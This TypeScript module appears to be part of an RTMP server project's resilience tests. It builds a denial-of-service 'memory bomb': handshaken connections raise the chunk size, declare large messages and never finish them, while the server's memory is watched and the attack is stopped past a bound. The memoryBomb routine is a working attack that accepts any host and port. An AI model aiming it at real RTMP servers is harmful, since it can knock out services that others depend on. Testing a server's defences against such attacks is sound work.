/**
 * The partial-message memory bomb against an RTMP server: connections that complete a plain
 * handshake, raise their chunk size to 0x7fffffff and send one chunk header declaring a large
 * message followed by all of it but its last byte, and never `connect`. A server that commits
 * the declared length at the header and keeps the connection holds about that much per
 * attacker. Bounded on the attacker's side: each connection writes from one shared buffer with
 * backpressure, and the whole attack stops when `stop()` says so (its caller watches the
 * server's RSS), so a server that does not defend itself cannot take the machine down.
 */
import net from 'node:net';
import { HANDSHAKE_SIZE, RTMP_VERSION } from '../../src/protocol/constants.js';
import type { HealthyStream, WatchedServer } from './server-watch.js';

export interface MemoryBombOptions {
  port: number;
  host?: string;
  connections: number;
  /** The message length each header declares (default 8 MB). */
  declaredBytes?: number;
  /** Its message type id (default 9, video). */
  typeId?: number;
  /** Handshakes in progress at once (default 100). */
  concurrency?: number;
  /** Polled between writes and connections: true ends the attack at once. */
  stop?: () => boolean;
}

export interface MemoryBombResult {
  /** Connections that completed the handshake. */
  handshaken: number;
  /** Connections the server closed (reset or ended) while we still wrote or waited. */
  closedByServer: number;
  /** Connections still open when the attack ended (`release()` closes them). */
  open: number;
  /** Payload bytes the server accepted from all connections. */
  payloadBytesSent: number;
  /** The attack was stopped by `stop()` before every connection was done. */
  stopped: boolean;
  /** Closes the connections still open. */
  release(): void;
}

const WRITE_BYTES = 64 * 1024;
const FILL = Buffer.alloc(WRITE_BYTES, 0x17);

/** C0 + C1 of a plain handshake (time and zero fields 0, the rest arbitrary). */
function c0c1(): Buffer {
  const b = Buffer.alloc(1 + HANDSHAKE_SIZE, 0x5a);
  b[0] = RTMP_VERSION;
  b.fill(0, 1, 9);
  return b;
}

/** Set Chunk Size 0x7fffffff, then the fmt-0 header of the declared message on chunk stream 6. */
function bombHeader(typeId: number, declaredBytes: number): Buffer {
  const b = Buffer.alloc(16 + 12);
  // csid 2, timestamp 0, length 4, type 1 (Set Chunk Size), stream 0, value.
  b.writeUInt8(0x02, 0);
  b.writeUIntBE(4, 4, 3);
  b.writeUInt8(1, 7);
  b.writeUInt32BE(0x7fffffff, 12);
  b.writeUInt8(0x06, 16);
  b.writeUIntBE(declaredBytes, 20, 3);
  b.writeUInt8(typeId, 23);
  b.writeUInt32LE(1, 24);
  return b;
}

interface Attacker {
  socket: net.Socket;
  closedByServer: boolean;
  /** We closed it (the attack's end). */
  ours: boolean;
}

function attack(
  opts: MemoryBombOptions,
  sent: { bytes: number },
  stop: () => boolean,
  all: Attacker[],
): Promise<Attacker | null> {
  const declared = opts.declaredBytes ?? 8 * 1024 * 1024;
  return new Promise((resolve) => {
    const socket = net.connect(opts.port, opts.host ?? '127.0.0.1');
    const a: Attacker = { socket, closedByServer: false, ours: false };
    all.push(a);
    let received = 0;
    let handshaken = false;
    let settled = false;
    const done = () => {
      if (settled) return;
      settled = true;
      resolve(handshaken ? a : null);
    };
    socket.on('error', () => {});
    socket.once('close', () => {
      if (!a.ours) a.closedByServer = true;
      done();
    });
    socket.once('connect', () => socket.write(c0c1()));
    socket.on('data', (d: Buffer) => {
      if (handshaken) return;
      received += d.length;
      if (received < 1 + 2 * HANDSHAKE_SIZE) return;
      handshaken = true;
      // C2 should echo S1; servers that check nothing in a plain handshake take any 1536 bytes.
      socket.write(Buffer.alloc(HANDSHAKE_SIZE, 0x5a));
      socket.write(bombHeader(opts.typeId ?? 9, declared));
      let left = declared - 1;
      const pump = () => {
        while (left > 0 && !socket.destroyed && !stop()) {
          const n = Math.min(left, WRITE_BYTES);
          left -= n;
          sent.bytes += n;
          if (!socket.write(n === WRITE_BYTES ? FILL : FILL.subarray(0, n))) {
            socket.once('drain', pump);
            return;
          }
        }
        done();
      };
      pump();
    });
  });
}

/** Runs the attack: every connection is done once its bytes are written or the server closed it. */
async function memoryBomb(opts: MemoryBombOptions): Promise<MemoryBombResult> {
  const stop = opts.stop ?? (() => false);
  const sent = { bytes: 0 };
  const attackers: Attacker[] = [];
  const all: Attacker[] = [];
  let next = 0;
  let stopped = false;
  const release = () => {
    for (const a of all) {
      if (a.socket.destroyed) continue;
      a.ours = true;
      a.socket.destroy();
    }
  };
  // A stop ends the connections still writing or waiting (their pumps would wait for a drain).
  const watch = setInterval(() => {
    if (!stop()) return;
    stopped = true;
    release();
  }, 50);
  await Promise.all(
    Array.from({ length: Math.min(opts.concurrency ?? 100, opts.connections) }, async () => {
      while (next < opts.connections) {
        if (stop()) {
          stopped = true;
          return;
        }
        next++;
        const a = await attack(opts, sent, stop, all);
        if (a !== null) attackers.push(a);
      }
    }),
  );
  // Let the server's closes of the last connections arrive.
  await new Promise((r) => setTimeout(r, 200));
  clearInterval(watch);
  if (stop()) {
    stopped = true;
    release();
  }
  return {
    handshaken: attackers.length,
    closedByServer: attackers.filter((a) => a.closedByServer).length,
    open: attackers.filter((a) => !a.socket.destroyed).length,
    payloadBytesSent: sent.bytes,
    stopped,
    release,
  };
}

export interface WatchedBombResult extends Omit<MemoryBombResult, 'release'> {
  connections: number;
  declaredBytes: number;
  /** The server's RSS before the attack (quiet), at its highest during it, and once it is over. */
  rssBeforeBytes: number;
  rssPeakBytes: number;
  rssAfterBytes: number;
  /** The attack was stopped because the server's RSS grew past `maxGrowthBytes`. */
  overBound: boolean;
  /** Connections the server closed during the attack, by close kind. */
  closedByReason: Record<string, number>;
  healthy: { sent: number; received: number; lost: number; alive: boolean };
  durationMs: number;
}

/**
 * The attack against the built-in server in its own process, its RSS sampled every 20 ms (from
 * /proc) and the attack stopped once it grew by more than `maxGrowthBytes`, beside a healthy
 * stream that must lose no frame. Connections still open at the end are held for `holdMs` (so
 * what they cost shows in the RSS), then closed.
 */
export async function bombWatchedServer(
  watched: WatchedServer,
  healthy: HealthyStream,
  opts: Omit<MemoryBombOptions, 'port' | 'stop'> & { maxGrowthBytes: number; holdMs?: number },
): Promise<WatchedBombResult> {
  const before = await watched.quietResources();
  const closedBefore = (await watched.stats()).connections.closedByReason;
  const startedMs = performance.now();
  let peak = before.rssBytes;
  let overBound = false;
  const sample = () => {
    const rss = watched.resources().rssBytes;
    if (rss > peak) peak = rss;
    if (rss - before.rssBytes > opts.maxGrowthBytes) overBound = true;
  };
  const sampler = setInterval(sample, 20);
  let r: MemoryBombResult;
  try {
    r = await memoryBomb({ ...opts, port: watched.server.port, stop: () => overBound });
    if (r.open > 0 && !overBound) {
      const until = performance.now() + (opts.holdMs ?? 1000);
      while (performance.now() < until && !overBound) await new Promise((res) => setTimeout(res, 50));
      sample();
    }
    r.release();
  } finally {
    clearInterval(sampler);
  }
  const durationMs = performance.now() - startedMs;
  // The healthy stream goes on a moment after the attack: a late effect would show.
  await new Promise((res) => setTimeout(res, 500));
  const after = await watched.quietResources();
  const stats = await watched.stats();
  const closedByReason: Record<string, number> = {};
  for (const [kind, n] of Object.entries(stats.connections.closedByReason)) {
    const d = n - (closedBefore[kind] ?? 0);
    if (d > 0) closedByReason[kind] = d;
  }
  const f = healthy.frames();
  const { release: _release, ...rest } = r;
  return {
    ...rest,
    connections: opts.connections,
    declaredBytes: opts.declaredBytes ?? 8 * 1024 * 1024,
    rssBeforeBytes: before.rssBytes,
    rssPeakBytes: peak,
    rssAfterBytes: after.rssBytes,
    overBound,
    closedByReason,
    healthy: { sent: f.sent, received: f.received, lost: f.lost, alive: healthy.alive() },
    durationMs: Math.round(durationMs),
  };
}
